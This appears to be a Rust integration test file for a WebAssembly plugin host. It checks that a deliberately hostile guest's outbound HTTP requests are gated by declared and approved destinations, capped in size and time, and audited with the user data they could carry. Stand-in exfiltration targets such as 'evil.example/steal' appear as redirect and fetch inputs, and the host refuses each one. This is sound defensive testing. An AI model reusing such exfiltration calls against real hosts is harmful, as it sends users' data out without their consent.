//! Outbound HTTP against a real service on loopback, plain and over TLS
//! with a test CA: every request the hostile guest makes through
//! `wasi:http` is checked (declared, approved, public address or one the
//! operator allows, count), capped (bytes, time) and audited with the
//! fields that could have left; the guest gets a typed error for each
//! refusal.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::Router;
use axum::body::{Body, Bytes};
use axum::http::{StatusCode as AxumStatus, header};
use axum::routing::{get, post};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use workbench_host::model::directory::Role;

use crate::server::{Server, on_both_databases};
use crate::support::HOSTILE_MANIFEST;

/// The developer's service: plain on one port, TLS on another, recording
/// every request it receives (`host path?query`).
struct Upstream {
    plain: SocketAddr,
    tls: SocketAddr,
    /// Another loopback port: declared but never approved.
    unapproved: u16,
    ca: std::path::PathBuf,
    hits: Arc<Mutex<Vec<String>>>,
    _dir: tempfile::TempDir,
}

impl Upstream {
    fn hits(&self) -> Vec<String> {
        self.hits.lock().expect("hits").clone()
    }
}

async fn upstream() -> Upstream {
    let hits: Arc<Mutex<Vec<String>>> = Arc::default();
    let record = Arc::clone(&hits);
    let app = Router::new()
        .route(
            "/visits",
            post(|body: Bytes| async move { (AxumStatus::CREATED, format!("received {} bytes", body.len())) }),
        )
        .route("/redirect", get(|| async { (AxumStatus::FOUND, [(header::LOCATION, "http://evil.example/steal")]) }))
        .route(
            "/slow",
            get(|| async {
                tokio::time::sleep(Duration::from_secs(60)).await;
                "late"
            }),
        )
        .route("/big", get(|| async { vec![b'x'; 2 << 20] }))
        .route("/echo", post(|body: Bytes| async move { body }))
        .route(
            "/drip",
            get(|| async {
                // A byte every 200 ms for a minute: still arriving at any call's deadline.
                let drops = futures::stream::unfold(0u32, |n| async move {
                    if n > 0 {
                        tokio::time::sleep(Duration::from_millis(200)).await;
                    }
                    (n < 300).then(|| (Ok::<_, std::io::Error>(Bytes::from_static(b"d")), n + 1))
                });
                Body::from_stream(drops)
            }),
        )
        .route(
            "/big-stream",
            get(|| async {
                let chunks = (0..40).map(|_| Ok::<_, std::io::Error>(Bytes::from(vec![b'y'; 64 << 10])));
                Body::from_stream(futures::stream::iter(chunks))
            }),
        )
        .layer(axum::middleware::from_fn(move |request: axum::extract::Request, next: axum::middleware::Next| {
            let record = Arc::clone(&record);
            async move {
                let host = request.headers().get(header::HOST).and_then(|h| h.to_str().ok()).unwrap_or("").to_owned();
                let target = request.uri().path_and_query().map_or("/", |p| p.as_str()).to_owned();
                record.lock().expect("hits").push(format!("{host} {target}"));
                next.run(request).await
            }
        }));

    let plain = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("binds");
    let plain_addr = plain.local_addr().expect("address");
    tokio::spawn(axum::serve(plain, app.clone()).into_future());
    let spare = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("binds");
    let unapproved = spare.local_addr().expect("address").port();
    tokio::spawn(axum::serve(spare, app.clone()).into_future());

    // A test CA and a certificate for visits.acme.example signed by it.
    let ca_key = rcgen::KeyPair::generate().expect("key");
    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).expect("params");
    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    ca_params.distinguished_name.push(rcgen::DnType::CommonName, "Workbench test CA");
    let ca = rcgen::CertifiedIssuer::self_signed(ca_params, ca_key).expect("CA");
    let leaf_key = rcgen::KeyPair::generate().expect("key");
    let leaf = rcgen::CertificateParams::new(vec!["visits.acme.example".to_owned()])
        .expect("params")
        .signed_by(&leaf_key, &ca)
        .expect("leaf");
    let dir = tempfile::tempdir().expect("tempdir");
    let ca_path = dir.path().join("ca.pem");
    std::fs::write(&ca_path, ca.pem()).expect("writes");
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let tls_config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .expect("versions")
        .with_no_client_auth()
        .with_single_cert(
            vec![leaf.der().clone()],
            rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into()),
        )
        .expect("server config");
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(tls_config));
    let tls = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("binds");
    let tls_addr = tls.local_addr().expect("address");
    tokio::spawn(async move {
        while let Ok((stream, _)) = tls.accept().await {
            let (acceptor, app) = (acceptor.clone(), app.clone());
            tokio::spawn(async move {
                let Ok(stream) = acceptor.accept(stream).await else { return };
                let service = hyper_util::service::TowerToHyperService::new(app);
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(hyper_util::rt::TokioIo::new(stream), service)
                    .await;
            });
        }
    });
    Upstream { plain: plain_addr, tls: tls_addr, unapproved, ca: ca_path, hits, _dir: dir }
}

/// The hostile guest (it imports every scope, so it declares them all) as
/// "courier", sending to four destinations.
fn manifest(up: &Upstream) -> String {
    let scopes = HOSTILE_MANIFEST.replacen("id = \"hostile\"", "id = \"courier\"", 1);
    format!(
        r#"{scopes}
[[egress]]
destination = "http://127.0.0.1:{plain}"
purpose = "send planned visits to Acme's service"
[[egress]]
destination = "https://visits.acme.example:{tls}"
purpose = "the same, over TLS"
[[egress]]
destination = "https://internal.acme.example"
purpose = "an internal service"
[[egress]]
destination = "http://127.0.0.1:{unapproved}"
purpose = "a service the admin did not approve"
"#,
        plain = up.plain.port(),
        tls = up.tls.port(),
        unapproved = up.unapproved,
    )
}

/// What the guest reports for each request of one `/fetch`.
async fn fetch(server: &Server, query: &str) -> (Vec<Value>, Value) {
    let reply = server.invoke("zhang.wei", "courier", &format!("/fetch?{query}")).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    let body: Vec<Value> =
        serde_json::from_str(reply.body["body"].as_str().expect("a body")).expect("the guest's JSON");
    (body, reply.body)
}

/// The outbound-request records of the tenant since `after`.
pub(crate) async fn egress_records(server: &Server, after: i64) -> Vec<Value> {
    let admin = server.demo_token("admin", &[Role::Admin]);
    let page = server
        .call(Method::GET, &format!("/api/v1/audit?action=http.request&after={after}&limit=1000"), Some(&admin), None)
        .await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
    page.body["records"].as_array().expect("records").clone()
}

pub(crate) async fn last_seq(server: &Server) -> i64 {
    let admin = server.demo_token("admin", &[Role::Admin]);
    let mut after = 0;
    loop {
        let page =
            server.call(Method::GET, &format!("/api/v1/audit?after={after}&limit=1000"), Some(&admin), None).await;
        let records = page.body["records"].as_array().expect("records");
        match records.last() {
            Some(last) => after = last["seq"].as_i64().expect("seq"),
            None => return after,
        }
        if records.len() < 1000 {
            return after;
        }
    }
}

/// The courier built with componentize-py (tests/guests-py/courier), published
/// as acme, installed with the name and `plain` approved, and zhang.wei's consent.
async fn install_py_courier(server: &Server, plain: &str) {
    let dev = server.demo_token("acme", &[Role::Developer]);
    let admin = server.demo_token("admin", &[Role::Admin]);
    let zhang = server.demo_token("zhang.wei", &[Role::Member]);
    let manifest = std::fs::read_to_string(xtask::repo_root().join("tests/guests-py/courier/plugin.toml"))
        .expect("manifest")
        .replace("http://127.0.0.1:8080", plain);
    let component = std::fs::read(xtask::python_guests().component("courier")).expect("built");
    let published = server.publish(&dev, &manifest, component, None).await;
    assert_eq!(published.status, StatusCode::CREATED, "{}", published.text);
    let installed = server
        .call(
            Method::PUT,
            "/api/v1/workbench/plugins/py-courier",
            Some(&admin),
            Some(json!({
            "version": "0.1.0", "granted_scopes": ["user.name"], "approved_egress": [plain],
            "config": {"service_url": plain}})),
        )
        .await;
    assert_eq!(installed.status, StatusCode::OK, "{}", installed.text);
    let consented = server
        .call(
            Method::PUT,
            "/api/v1/me/plugins/py-courier/consent",
            Some(&zhang),
            Some(json!({"scopes": ["user.name"]})),
        )
        .await;
    assert_eq!(consented.status, StatusCode::OK, "{}", consented.text);
}

on_both_databases! {
    async fn outbound_requests_are_gated_capped_and_audited(db: Db) {
        let up = upstream().await;
        let ca = up.ca.clone();
        let server = Server::demo_configured(db, move |config| {
            config.egress.plain_http_hosts = vec!["127.0.0.1".into()];
            config.egress.allow_private = vec!["127.0.0.1/32".parse().expect("net")];
            config.egress.resolve.insert("visits.acme.example".into(), vec!["127.0.0.1".parse().expect("ip")]);
            config.egress.resolve.insert("internal.acme.example".into(), vec!["10.0.0.7".parse().expect("ip")]);
            config.egress.extra_roots = vec![ca];
            config.egress.max_response_bytes = 1 << 20;
            config.egress.max_requests_per_call = 3;
            config.runtime.deadline_ms = 3_000;
        })
        .await;
        let component = std::fs::read(xtask::guests().component("hostile")).expect("built");
        let dev = server.demo_token("acme", &[Role::Developer]);
        let published = server.publish(&dev, &manifest(&up), component, None).await;
        assert_eq!(published.status, StatusCode::CREATED, "{}", published.text);
        assert_eq!(published.body["destinations"].as_array().map(Vec::len), Some(4), "{}", published.text);

        // The admin approves three of the four destinations.
        let admin = server.demo_token("admin", &[Role::Admin]);
        let plain = format!("http://127.0.0.1:{}", up.plain.port());
        let tls = format!("https://visits.acme.example:{}", up.tls.port());
        let unknown = server
            .call(Method::PUT, "/api/v1/workbench/plugins/courier", Some(&admin), Some(json!({
                "version": "0.1.0", "granted_scopes": ["user.name", "user.phone"],
                "approved_egress": [plain, "https://elsewhere.example"]})))
            .await;
        assert_eq!(unknown.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", unknown.text);
        assert!(unknown.text.contains("cannot approve destination \\\"https://elsewhere.example\\\""), "{}", unknown.text);
        let installed = server
            .call(Method::PUT, "/api/v1/workbench/plugins/courier", Some(&admin), Some(json!({
                "version": "0.1.0", "granted_scopes": ["user.name", "user.phone"],
                "approved_egress": [plain, tls, "https://internal.acme.example"]})))
            .await;
        assert_eq!(installed.status, StatusCode::OK, "{}", installed.text);
        assert_eq!(installed.body["approved_egress"].as_array().map(Vec::len), Some(3), "{}", installed.text);

        // The member is told where their data may go, and consents to the name.
        let zhang = server.demo_token("zhang.wei", &[Role::Member]);
        let disclosure = server.call(Method::GET, "/api/v1/me/plugins/courier/consent", Some(&zhang), None).await;
        let destinations: Vec<&str> = disclosure.body["destinations"]
            .as_array()
            .expect("destinations")
            .iter()
            .filter_map(|d| d["destination"].as_str())
            .collect();
        assert_eq!(destinations, [plain.as_str(), tls.as_str(), "https://internal.acme.example"], "{}", disclosure.text);
        let consented = server
            .call(Method::PUT, "/api/v1/me/plugins/courier/consent", Some(&zhang), Some(json!({"scopes": ["user.name"]})))
            .await;
        assert_eq!(consented.status, StatusCode::OK, "{}", consented.text);
        let start = last_seq(&server).await;

        // Allowed, plain: the name was read first, so it could have left.
        let (got, _) = fetch(&server, &format!("read=name&method=POST&body=100&url={plain}/visits%3Fsecret%3Dzhang")).await;
        assert_eq!(got[0]["status"], 201, "{got:?}");
        // Allowed, TLS with the test CA, to a name the operator pins to loopback.
        let (got, _) = fetch(&server, &format!("url={tls}/visits&method=POST&body=5")).await;
        assert_eq!(got[0]["status"], 201, "{got:?}");
        // Not declared at all.
        let (got, _) = fetch(&server, "url=http://127.0.0.1:9/x").await;
        assert_eq!(got[0]["error"], "ErrorCode::HttpRequestDenied", "{got:?}");
        // Declared but not approved.
        let (got, _) = fetch(&server, &format!("url=http://127.0.0.1:{}/visits", up.unapproved)).await;
        assert_eq!(got[0]["error"], "ErrorCode::HttpRequestDenied", "{got:?}");
        // Declared and approved, but the name points inside.
        let (got, _) = fetch(&server, "url=https://internal.acme.example/").await;
        assert_eq!(got[0]["error"], "ErrorCode::DestinationIpProhibited", "{got:?}");
        // A redirect to a host nobody declared: the guest follows it itself and is refused.
        let (got, _) = fetch(&server, &format!("url={plain}/redirect&follow=1")).await;
        assert_eq!((got[0]["error"].as_str(), got[0]["hops"].as_i64()), (Some("ErrorCode::HttpRequestDenied"), Some(1)), "{got:?}");
        // A response announced over the cap, and one that streams past it.
        let (got, _) = fetch(&server, &format!("url={plain}/big")).await;
        assert!(got[0]["error"].as_str().is_some_and(|e| e.starts_with("ErrorCode::HttpResponseBodySize")), "{got:?}");
        // Past the cap mid-stream, the body's stream fails with the reason
        // (wasi:http 0.2 has no typed code for a body stream's error).
        let (got, _) = fetch(&server, &format!("url={plain}/big-stream")).await;
        assert!(got[0]["error"].as_str().is_some_and(|e| e.contains("response body size exceeds limit")), "{got:?}");
        // Too many requests in one call: the fourth is refused.
        let (got, _) = fetch(&server, &format!("url={plain}/redirect&times=4")).await;
        let statuses: Vec<&Value> = got.iter().map(|g| if g["status"].is_null() { &g["error"] } else { &g["status"] }).collect();
        assert_eq!(statuses, [&json!(302), &json!(302), &json!(302), &json!("ErrorCode::HttpRequestDenied")], "{got:?}");

        // The same through the SDK's client: an answer, and the host's refusal as a typed error.
        let sdk = server.invoke("zhang.wei", "courier", &format!("/sdk-fetch?url={tls}/visits")).await;
        assert_eq!(sdk.body["body"], "201 received 2 bytes", "{}", sdk.text);
        let sdk = server.invoke("zhang.wei", "courier", "/sdk-fetch?url=https://evil.example/steal").await;
        assert_eq!(sdk.body["body"], "refused", "{}", sdk.text);

        // The service saw exactly the allowed requests, never evil.example or the inside.
        let hits = up.hits();
        let plain_host = format!("127.0.0.1:{}", up.plain.port());
        let expected_hits = [
            format!("{plain_host} /visits?secret=zhang"),
            format!("visits.acme.example:{} /visits", up.tls.port()),
            format!("{plain_host} /redirect"),
            format!("{plain_host} /big"),
            format!("{plain_host} /big-stream"),
            format!("{plain_host} /redirect"),
            format!("{plain_host} /redirect"),
            format!("{plain_host} /redirect"),
            format!("visits.acme.example:{} /visits", up.tls.port()),
        ];
        assert_eq!(hits, expected_hits);

        // One record per request, each saying what happened.
        let records = egress_records(&server, start).await;
        let summary: Vec<(String, String, String, String)> = records
            .iter()
            .map(|r| {
                (
                    r["egress"]["destination"].as_str().unwrap_or_default().to_owned(),
                    r["egress"]["path"].as_str().unwrap_or_default().to_owned(),
                    r["outcome"].as_str().unwrap_or_default().to_owned(),
                    r["reason"].as_str().unwrap_or_default().split(':').next().unwrap_or_default().to_owned(),
                )
            })
            .collect();
        let row = |d: &str, p: &str, o: &str, r: &str| (d.to_owned(), p.to_owned(), o.to_owned(), r.to_owned());
        let unapproved = format!("http://127.0.0.1:{}", up.unapproved);
        assert_eq!(
            summary,
            [
                row(&plain, "/visits", "allowed", ""),
                row(&tls, "/visits", "allowed", ""),
                row("http://127.0.0.1:9", "/x", "denied", "not_declared"),
                row(&unapproved, "/visits", "denied", "not_approved"),
                row("https://internal.acme.example", "/", "denied", "address_prohibited"),
                row(&plain, "/redirect", "allowed", ""),
                row("http://evil.example", "/steal", "denied", "not_declared"),
                row(&plain, "/big", "failed", "response_too_large"),
                row(&plain, "/big-stream", "failed", "response_too_large"),
                row(&plain, "/redirect", "allowed", ""),
                row(&plain, "/redirect", "allowed", ""),
                row(&plain, "/redirect", "allowed", ""),
                row(&plain, "/redirect", "denied", "too_many_requests"),
                row(&tls, "/visits", "allowed", ""),
                row("https://evil.example", "/steal", "denied", "not_declared"),
            ]
        );
        let first = &records[0];
        assert_eq!(first["egress"]["method"], "POST");
        assert_eq!(first["egress"]["status"], 201);
        assert_eq!(first["egress"]["bytes_out"], 100);
        assert_eq!(first["egress"]["bytes_in"], "received 100 bytes".len());
        assert_eq!(first["egress"]["could_include"], json!(["user.name"]), "the name was read before: {first}");
        assert_eq!(first["purpose"], "send planned visits to Acme's service");
        assert_eq!(records[1]["egress"]["could_include"], json!([]), "nothing read in that call: {}", records[1]);
        assert!(records[4]["reason"].as_str().is_some_and(|r| r.contains("10.0.0.7 (private")), "{}", records[4]);
        assert!(records[7]["egress"]["bytes_in"] == 0, "refused on its announced length: {}", records[7]);

        // The admin filters by destination.
        let by_tls = server
            .call(Method::GET, &format!("/api/v1/audit?destination={}", tls.replace(':', "%3A")), Some(&admin), None)
            .await;
        assert_eq!(by_tls.body["records"].as_array().map(Vec::len), Some(2), "{}", by_tls.text);

        // The member's access log says where it went and what it could carry.
        let log = server.call(Method::GET, "/api/v1/me/access-log?limit=1000", Some(&zhang), None).await;
        let sent: Vec<&Value> =
            log.body["accesses"].as_array().expect("accesses").iter().filter(|a| a["sent_to"] == json!(plain)).collect();
        assert_eq!(sent[0]["could_include"], json!(["user.name"]), "{}", log.text);

        // Withdrawn, the name is no longer handed over, so later records do not list it.
        let withdrawn =
            server.call(Method::DELETE, "/api/v1/me/plugins/courier/consent?scopes=user.name", Some(&zhang), None).await;
        assert_eq!(withdrawn.status, StatusCode::OK, "{}", withdrawn.text);
        let since = last_seq(&server).await;
        let (got, _) = fetch(&server, &format!("read=name&url={plain}/redirect")).await;
        assert_eq!(got[0]["status"], 302, "{got:?}");
        let records = egress_records(&server, since).await;
        assert_eq!(records.len(), 1, "{records:?}");
        assert_eq!(records[0]["egress"]["could_include"], json!([]), "{}", records[0]);

        // A server slower than the deadline: the call ends at its deadline,
        // its slot is free, and the request is recorded as cut off.
        let since = last_seq(&server).await;
        let started = Instant::now();
        let reply = server.invoke("li.na", "courier", &format!("/fetch?url={plain}/slow")).await;
        let took = started.elapsed();
        assert_eq!(reply.status, StatusCode::BAD_GATEWAY, "{}", reply.text);
        assert!(took < Duration::from_secs(10), "ended at the deadline, not the server's pace: {took:?}");
        assert_eq!(server.workbench.admission().running(), 0, "no slot held past the deadline");
        let records = egress_records(&server, since).await;
        assert_eq!(records.len(), 1, "{records:?}");
        assert_eq!(records[0]["outcome"], "failed");
        assert!(records[0]["reason"].as_str().is_some_and(|r| r.starts_with("cut_off")), "{}", records[0]);

        // A plugin from another toolchain: componentize-py against the world
        // `workbench plugin wit` writes (its name and wasi:http), no SDK.
        install_py_courier(&server, &plain).await;
        let since = last_seq(&server).await;
        let sent = server.invoke("zhang.wei", "py-courier", &format!("/send?read=name&url={plain}/visits")).await;
        let body = r#"{"by": "张伟"}"#;
        assert_eq!(sent.body["body"], format!("201 received {} bytes", body.len()), "{}", sent.text);
        let refused = server.invoke("zhang.wei", "py-courier", "/send?url=https://evil.example/steal").await;
        assert_eq!(refused.body["body"], "HttpRequestDenied", "{}", refused.text);
        // The same through the Python SDK's client.
        let sdk = server.invoke("zhang.wei", "py-courier", &format!("/sdk-send?url={plain}/visits")).await;
        assert_eq!(sdk.body["body"], format!("201 received {} bytes", r#"{"by": ""}"#.len()), "{}", sdk.text);
        let sdk = server.invoke("zhang.wei", "py-courier", "/sdk-send?url=https://evil.example/steal").await;
        assert_eq!(sdk.body["body"], "refused", "{}", sdk.text);
        // Without a URL, to the base the admin configured.
        let configured = server.invoke("zhang.wei", "py-courier", "/sdk-send").await;
        assert_eq!(configured.body["body"], format!("201 received {} bytes", r#"{"by": ""}"#.len()), "{}", configured.text);
        let records = egress_records(&server, since).await;
        assert_eq!(records.len(), 5, "{records:?}");
        assert_eq!(records[4]["egress"]["path"], "/visits", "{}", records[4]);
        assert_eq!(records[0]["egress"]["could_include"], json!(["user.name"]), "{}", records[0]);
        assert_eq!(records[0]["egress"]["bytes_out"], body.len(), "{}", records[0]);
        assert_eq!((records[1]["outcome"].as_str(), records[1]["egress"]["destination"].as_str()), (Some("denied"), Some("https://evil.example")));
        server.stop().await;
    }
}

on_both_databases! {
    async fn an_outbound_record_names_what_the_request_carried_to_its_last_byte(db: Db) {
        let up = upstream().await;
        let server = Server::demo_configured(db, move |config| {
            config.egress.plain_http_hosts = vec!["127.0.0.1".into()];
            config.egress.allow_private = vec!["127.0.0.1/32".parse().expect("net")];
            config.runtime.deadline_ms = 2_000;
        })
        .await;
        let dev = server.demo_token("acme", &[Role::Developer]);
        let admin = server.demo_token("admin", &[Role::Admin]);
        let zhang = server.demo_token("zhang.wei", &[Role::Member]);
        let plain = format!("http://127.0.0.1:{}", up.plain.port());
        let component = std::fs::read(xtask::guests().component("hostile")).expect("built");
        assert_eq!(server.publish(&dev, &manifest(&up), component, None).await.status, StatusCode::CREATED);
        let installed = server
            .call(Method::PUT, "/api/v1/workbench/plugins/courier", Some(&admin), Some(json!({
                "version": "0.1.0", "granted_scopes": ["user.name"], "approved_egress": [plain]})))
            .await;
        assert_eq!(installed.status, StatusCode::OK, "{}", installed.text);
        let consented = server
            .call(Method::PUT, "/api/v1/me/plugins/courier/consent", Some(&zhang), Some(json!({"scopes": ["user.name"]})))
            .await;
        assert_eq!(consented.status, StatusCode::OK, "{}", consented.text);

        // The name is read after the request started and streamed in its body:
        // the record names it, and the service got it.
        let since = last_seq(&server).await;
        let (got, _) = fetch(&server, &format!("late=name&method=POST&url={plain}/echo")).await;
        assert_eq!(got[0]["status"], 200, "{got:?}");
        assert_eq!(got[0]["bytes"], "by=张伟".len(), "{got:?}");
        // Nothing read at all: nothing named.
        let (got, _) = fetch(&server, &format!("method=POST&body=5&url={plain}/echo")).await;
        assert_eq!(got[0]["status"], 200, "{got:?}");
        let records = egress_records(&server, since).await;
        assert_eq!(records.len(), 2, "{records:?}");
        assert_eq!(records[0]["egress"]["could_include"], json!(["user.name"]), "{}", records[0]);
        assert_eq!(records[0]["egress"]["bytes_out"], "by=张伟".len(), "{}", records[0]);
        assert_eq!(records[1]["egress"]["could_include"], json!([]), "{}", records[1]);
        // The member's access log says so too.
        let log = server.call(Method::GET, "/api/v1/me/access-log?limit=1000", Some(&zhang), None).await;
        let sent = log.body["accesses"].as_array().expect("accesses").iter().find(|a| a["sent_to"] == json!(plain)).cloned();
        assert_eq!(sent.map(|a| a["could_include"].clone()), Some(json!(["user.name"])), "{}", log.text);

        // A record is durable as soon as its request ends, with what the
        // call did before it, while the call goes on (here 1.2 s more).
        let since = last_seq(&server).await;
        let started = Instant::now();
        let call = {
            let (base, token) = (server.base.clone(), zhang.clone());
            let url = format!("{base}/api/v1/me/plugins/courier/invoke");
            let query = format!("read=name&method=POST&body=5&url={plain}/echo&sleep=1200");
            tokio::spawn(async move {
                let body = json!({ "path": "/fetch", "query": query });
                reqwest::Client::new().post(url).bearer_auth(token).json(&body).send().await.expect("sent").status()
            })
        };
        let mut seen = Vec::new();
        while seen.is_empty() && started.elapsed() < Duration::from_millis(1100) {
            tokio::time::sleep(Duration::from_millis(25)).await;
            seen = egress_records(&server, since).await;
        }
        assert!(!call.is_finished(), "the call was still running ({:?}, {seen:?})", started.elapsed());
        assert_eq!(seen.len(), 1, "the request's record was written while the call ran ({:?} in)", started.elapsed());
        assert_eq!((seen[0]["outcome"].as_str(), seen[0]["egress"]["status"].as_u64()), (Some("allowed"), Some(200)), "{}", seen[0]);
        assert_eq!(call.await.expect("the call"), StatusCode::OK);
        let admin_page = server
            .call(Method::GET, &format!("/api/v1/audit?after={since}&limit=1000&subject=zhang.wei"), Some(&admin), None)
            .await;
        let actions: Vec<(&str, &str)> = admin_page.body["records"]
            .as_array()
            .expect("records")
            .iter()
            .map(|r| (r["action"].as_str().unwrap_or_default(), r["scope"].as_str().unwrap_or_default()))
            .collect();
        assert_eq!(actions, [("read", "user.name"), ("http.request", "")], "the read that came first is first: {}", admin_page.text);

        // A response still arriving at the deadline: cut off, not "unread".
        let since = last_seq(&server).await;
        let reply = server.invoke("zhang.wei", "courier", &format!("/fetch?url={plain}/drip")).await;
        assert_eq!(reply.status, StatusCode::BAD_GATEWAY, "{}", reply.text);
        let records = egress_records(&server, since).await;
        assert_eq!(records.len(), 1, "{records:?}");
        assert_eq!(records[0]["outcome"], "failed", "{}", records[0]);
        assert!(records[0]["reason"].as_str().is_some_and(|r| r.starts_with("cut_off")), "{}", records[0]);
        assert!(records[0]["egress"]["bytes_in"].as_u64().is_some_and(|n| n > 0), "it had begun: {}", records[0]);

        // A tunnel, another scheme and user information in the URL.
        let since = last_seq(&server).await;
        let (got, _) = fetch(&server, &format!("method=CONNECT&url={plain}/")).await;
        assert_eq!(got[0]["error"], "ErrorCode::HttpRequestDenied", "{got:?}");
        let (got, _) = fetch(&server, &format!("url=ftp://127.0.0.1:{}/x", up.plain.port())).await;
        assert_eq!(got[0]["error"], "ErrorCode::HttpRequestDenied", "{got:?}");
        let (got, _) = fetch(&server, &format!("url=http://zhang:secret@127.0.0.1:{}/visits&method=POST", up.plain.port())).await;
        assert_eq!(got[0]["status"], 201, "{got:?}");
        let records = egress_records(&server, since).await;
        let reasons: Vec<&str> =
            records.iter().map(|r| r["reason"].as_str().unwrap_or_default().split(':').next().unwrap_or_default()).collect();
        assert_eq!(reasons, ["unsupported_method", "unsupported_scheme", ""], "{records:?}");
        assert_eq!(records[1]["egress"]["destination"], format!("ftp://127.0.0.1:{}", up.plain.port()));
        // The service saw the host it was sent to, never the user information.
        let hits = up.hits();
        assert_eq!(hits.last().map(String::as_str), Some(format!("127.0.0.1:{} /visits", up.plain.port()).as_str()), "{hits:?}");
        assert!(!hits.iter().any(|h| h.contains("secret")), "{hits:?}");

        // The same streaming from a plugin built with componentize-py.
        install_py_courier(&server, &plain).await;
        let since = last_seq(&server).await;
        let sent = server.invoke("zhang.wei", "py-courier", &format!("/send?late=name&url={plain}/echo")).await;
        let body = r#"{"by": "张伟"}"#;
        assert_eq!(sent.body["body"], format!("200 {body}"), "{}", sent.text);
        let records = egress_records(&server, since).await;
        assert_eq!(records.len(), 1, "{records:?}");
        assert_eq!(records[0]["egress"]["could_include"], json!(["user.name"]), "{}", records[0]);
        server.stop().await;
    }
}
